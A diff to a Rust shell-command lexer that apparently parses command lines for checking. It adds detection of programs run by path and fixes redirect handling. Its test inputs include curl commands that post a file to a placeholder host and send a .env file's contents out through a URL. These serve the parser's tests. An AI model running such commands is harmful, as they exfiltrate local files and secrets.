@@ -30,6 +30,8 @@ pub struct Command {
     /// As it would be looked up, lower case: `curl`, not `/usr/bin/curl`.
     pub program: String,
     pub words: Vec<String>,
+    /// The program was named by its path, outside the system's folders: a file that is run.
+    pub by_path: Option<String>,
     /// Files that output is redirected to.
     pub writes: Vec<String>,
     /// Its input comes from the command before it.
@@ -84,9 +86,9 @@ fn lex(line: &str, depth: u32, found: &mut Vec<Command>) {
                 _ => word.push(char),
             },
             (None, '|' | ';' | '&' | '\n' | '(' | ')' | '{' | '}') => {
-                // `2>&1` ends nothing.
-                if char == '&' && redirect && word.is_empty() {
-                    redirect = false;
+                // `2>&1` and `&>file` end nothing.
+                if char == '&' && ((redirect && word.is_empty()) || chars.peek() == Some(&'>')) {
+                    word.extend(redirect.then_some('&'));
                     continue;
                 }
                 end_word(&mut word, &mut redirect, &mut command);
@@ -117,7 +119,10 @@ fn end_word(word: &mut String, redirect: &mut bool, command: &mut Command) {
     }
     let word = std::mem::take(word);
     if std::mem::take(redirect) {
-        command.writes.push(word);
+        // A descriptor is no file.
+        command
+            .writes
+            .extend(Some(word).filter(|word| !word.starts_with('&')));
     } else {
         command.words.push(word);
     }
@@ -142,6 +147,10 @@ fn finish(command: &mut Command, pipe: bool, depth: u32, found: &mut Vec<Command
         if WRAPPERS.contains(&program.as_str()) || assignment || option {
             done.words.remove(0);
         } else {
+            let system = ["/bin/", "/usr/", "/sbin/", "/opt/"]
+                .iter()
+                .any(|folder| first.starts_with(folder));
+            done.by_path = Some(first.clone()).filter(|path| path.contains('/') && !system);
             done.program = program;
             done.words.remove(0);
             break;
@@ -204,7 +213,7 @@ mod tests {
         );
         check(
             "FOO=1 sudo /usr/bin/curl -d @f http://x 2>&1",
-            "curl -d,@f,http://x; 1 ",
+            "curl -d,@f,http://x",
         );
         check(
             r#"curl "http://x/?d=$(cat .env)""#,
